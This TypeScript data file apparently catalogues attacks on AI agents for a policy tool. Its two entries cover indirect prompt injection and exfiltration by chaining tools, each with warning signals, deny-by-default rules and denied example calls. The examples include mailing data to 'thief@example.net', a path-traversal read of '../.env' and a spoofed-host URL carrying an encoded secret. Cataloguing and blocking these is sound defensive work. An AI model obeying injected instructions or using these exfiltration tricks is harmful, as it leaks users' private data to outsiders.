import type { Attack } from './attack';

export const indirectInjection: Attack = {
  slug: 'indirect-prompt-injection',
  title: 'Indirect prompt injection',
  summary: 'Text that an agent reads through one tool tells it to call another, and the agent obeys.',
  categories: ['Read', 'Write', 'Execute', 'Destructive', 'Financial', 'Other'],
  how: [
    'A model cannot tell reliably which of the words in front of it are orders and which are data. A web page, an issue, an e-mail or a log line can therefore contain a sentence that is addressed to the agent, not to the reader.',
    'The agent reads it with a harmless tool and then uses whatever else it was granted: it sends, deletes, pays or publishes in the name of its user. The person who wrote the sentence never had access to anything.',
    'The risk of a tool therefore does not depend on that tool alone: what matters is what an agent can read and what it can do in the same session.',
  ],
  tools:
    'Reading tools that return what strangers wrote are the way in; every tool that changes something is the way to the damage.',
  signals: [
    'A change that follows directly upon reading outside content and has nothing to do with what the user asked.',
    'Addresses, hosts or account numbers in the arguments that appeared first in a tool result.',
    'A tool that this grant has never called before.',
  ],
  policy: {
    version: '1',
    default: 'deny',
    tools: {
      read_issue: {},
      send_email: {
        require: [
          {
            conditions: [{ path: 'args.to', op: 'ends_with', value: '@example.com' }],
            on_deny: 'Mail leaves the company only by hand.',
          },
        ],
      },
      merge_pull_request: { action: 'require_approval', reason: 'A person merges.' },
    },
  },
  contains:
    'The injected sentence is still read, and nothing here detects it. But what it can cause is bounded by rules on the arguments, by a person’s approval, and by everything that was never granted.',
  calls: [
    {
      tool: 'read_issue',
      args: { number: 7 },
      outcome: 'allow',
      says: 'the agent reads an issue that a stranger wrote',
    },
    {
      tool: 'send_email',
      args: { to: 'thief@example.net', body: '…' },
      outcome: 'deny',
      says: 'the issue tells it to mail what it knows to an outside address',
    },
    { tool: 'merge_pull_request', args: { number: 8 }, outcome: 'hold', says: 'or to merge a prepared change' },
  ],
  sources: [
    {
      name: 'OWASP Top 10 for LLM Applications, LLM01: Prompt Injection',
      url: 'https://genai.owasp.org/llmrisk/llm01-prompt-injection/',
    },
    {
      name: 'Greshake et al., “Not what you’ve signed up for: Compromising Real-World LLM-Integrated Applications with Indirect Prompt Injection” (2023)',
      url: 'https://arxiv.org/abs/2302.12173',
    },
  ],
};

export const exfiltration: Attack = {
  slug: 'exfiltration-by-chaining',
  title: 'Exfiltration by chaining tools',
  summary: 'One tool reads what is private, another carries it outside; each of them alone is harmless.',
  categories: ['Read', 'Write', 'Execute'],
  how: [
    'Three things have to come together: access to private data, contact with text that a stranger wrote, and any way to the outside. Servers are granted one by one, so nobody sees the moment at which the third arrives.',
    'The way out need not look like one. A URL that is fetched carries data in its query, a search term reaches a foreign index, a public issue, a commit message or an image address does as well.',
    'Every single call in the log is one that the agent was allowed to make.',
  ],
  tools:
    'Tools that read files, mail, records or secrets on one side; on the other, tools that take a URL, a recipient or text that others will see.',
  signals: [
    'A long or encoded value in the query of a URL argument.',
    'Calls to a host that no earlier call of this grant named.',
    'Reading many records and then one call with a large body.',
  ],
  policy: {
    version: '1',
    default: 'deny',
    tools: {
      read_file: {
        require: [
          {
            conditions: [{ path: 'args.path', op: 'path_within', value: ['/workspace/docs'] }],
            on_deny: 'Only the documentation may be read.',
          },
        ],
      },
      fetch_url: {
        require: [
          {
            conditions: [{ path: 'args.url', op: 'host_in', value: ['docs.example.com'] }],
            on_deny: 'Only docs.example.com may be fetched.',
          },
        ],
      },
    },
  },
  contains:
    'Closing either end breaks the chain: what is read is bounded to a folder, where it can go is bounded to hosts. A host that is allowed can still receive what may be read.',
  calls: [
    { tool: 'read_file', args: { path: '/workspace/docs/a.md' }, outcome: 'allow', says: 'reading the documentation' },
    {
      tool: 'read_file',
      args: { path: '/workspace/docs/../.env' },
      outcome: 'deny',
      says: 'reading secrets beside it',
    },
    {
      tool: 'fetch_url',
      args: { url: 'https://docs.example.com@example.net/?k=c2VjcmV0' },
      outcome: 'deny',
      says: 'carrying them to a host that only looks allowed',
    },
  ],
  sources: [
    {
      name: 'Simon Willison, “The lethal trifecta for AI agents: private data, untrusted content, and external communication” (2025)',
      url: 'https://simonwillison.net/2025/Jun/16/the-lethal-trifecta/',
    },
    {
      name: 'OWASP Top 10 for LLM Applications, LLM02: Sensitive Information Disclosure',
    },
  ],
};
